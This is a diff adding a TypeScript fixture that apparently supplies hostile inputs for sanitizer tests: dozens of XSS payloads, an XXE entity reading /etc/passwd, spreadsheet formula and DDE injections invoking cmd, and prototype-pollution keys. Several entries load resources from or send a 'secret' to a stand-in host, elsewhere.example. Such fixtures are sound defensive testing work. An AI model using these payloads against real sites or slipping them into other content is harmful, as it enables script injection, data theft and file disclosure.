@@ -1,0 +1,92 @@
+/** The name that every payload below calls: it stands on `window` only if one of them ran. */
+export const alarm = 'foilightWasBreached';
+
+const run = `window.${alarm}=1`;
+const elsewhere = 'https://elsewhere.example';
+
+/** Markup that runs, loads, sends or hides something wherever it is taken for markup. */
+export const markups: readonly string[] = [
+  `<script>${run}</script>`,
+  `<SCRIPT SRC="${elsewhere}/x.js"></SCRIPT>`,
+  `<scr<script>ipt>${run}</scr</script>ipt>`,
+  `<img src=x onerror="${run}">`,
+  `<img src="${elsewhere}/pixel.gif?who=reader">`,
+  `<svg onload="${run}"></svg>`,
+  `<svg><script>${run}</script></svg>`,
+  `<svg><animate onbegin="${run}" attributeName=x dur=1s></svg>`,
+  `<svg><use href="data:image/svg+xml,<svg id=x xmlns='http://www.w3.org/2000/svg'><script>${run}</script></svg>#x"/></svg>`,
+  `<math><maction actiontype="statusline" xlink:href="javascript:${run}">x</maction></math>`,
+  `<iframe src="javascript:${run}"></iframe>`,
+  `<iframe srcdoc="<script>parent.${alarm}=1</script>"></iframe>`,
+  `<object data="data:text/html,<script>${run}</script>"></object>`,
+  `<embed src="${elsewhere}/x.swf">`,
+  `<a href="javascript:${run}">the disclosure log</a>`,
+  `<a href="JaVaScRiPt&colon;${run}">the log</a>`,
+  `<a href="&#106;avascript:${run}">the log</a>`,
+  `<a href="data:text/html,<script>${run}</script>">the log</a>`,
+  `<a href="vbscript:msgbox(1)">the log</a>`,
+  `<form action="${elsewhere}"><input name=q value=secret><button>Send</button></form>`,
+  `<body onload="${run}">`,
+  `<details open ontoggle="${run}"><summary>x</summary></details>`,
+  `<input autofocus onfocus="${run}">`,
+  `<video><source onerror="${run}"></video>`,
+  `<style>@import url(${elsewhere}/x.css);*{background:url(${elsewhere}/b.png)}</style>`,
+  `<link rel="stylesheet" href="${elsewhere}/x.css">`,
+  `<link rel="prefetch" href="${elsewhere}/next">`,
+  `<base href="${elsewhere}/">`,
+  `<meta http-equiv="refresh" content="0;url=${elsewhere}">`,
+  `<div style="background:url(${elsewhere}/d.png);position:fixed;inset:0">over everything</div>`,
+  `<template><script>${run}</script></template>`,
+  `<noscript><p title="</noscript><img src=x onerror=${run}>"></noscript>`,
+  `<!--><img src=x onerror=${run}>-->`,
+  `<![CDATA[<script>${run}</script>]]>`,
+  `<?xml-stylesheet href="${elsewhere}/x.xsl"?>`,
+  `<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd"><!ENTITY b "&a;&a;&a;">]><x>&b;</x>`,
+  `"><script>${run}</script>`,
+  `'-${run}-'`,
+  `\`\${${run}}\``,
+  `{{constructor.constructor('${run}')()}}`,
+  `</script><script>${run}</script>`,
+  `</title><script>${run}</script>`,
+  `</textarea><script>${run}</script>`,
+  `]]><script>${run}</script>`,
+  `\u0000<script>${run}</script>`,
+  `<script\u0000>${run}</script>`,
+  `\u202e<script>${run}</script>`,
+  `%3Cscript%3E${run}%3C/script%3E`,
+  `&lt;script&gt;${run}&lt;/script&gt;`,
+  `+ADw-script+AD4-${run}+ADw-/script+AD4-`,
+];
+
+/** Cells that a spreadsheet takes for something to run or to fetch. */
+export const formulas: readonly string[] = [
+  '=1+1',
+  "=cmd|' /C calc'!A0",
+  `=HYPERLINK("${elsewhere}?x="&A1,"click")`,
+  `=WEBSERVICE("${elsewhere}")`,
+  `=IMPORTXML("${elsewhere}","//a")`,
+  "+cmd|' /C calc'!A0",
+  "-2+3+cmd|' /C calc'!A0",
+  '@SUM(1+1)*cmd',
+  '\t=1+1',
+  '\r=1+1',
+  '＝1+1',
+  '＋1+1',
+  '－1+1',
+  '＠SUM(1)',
+  ' =1+1',
+  '"=1+1"',
+  '=DDE("cmd";"/C calc";"x")',
+];
+
+/** Words that are something to a JavaScript object. */
+export const objectWords: readonly string[] = [
+  '__proto__',
+  'constructor',
+  'prototype',
+  'toString',
+  'hasOwnProperty',
+  'valueOf',
+  '__defineGetter__',
+  'then',
+];
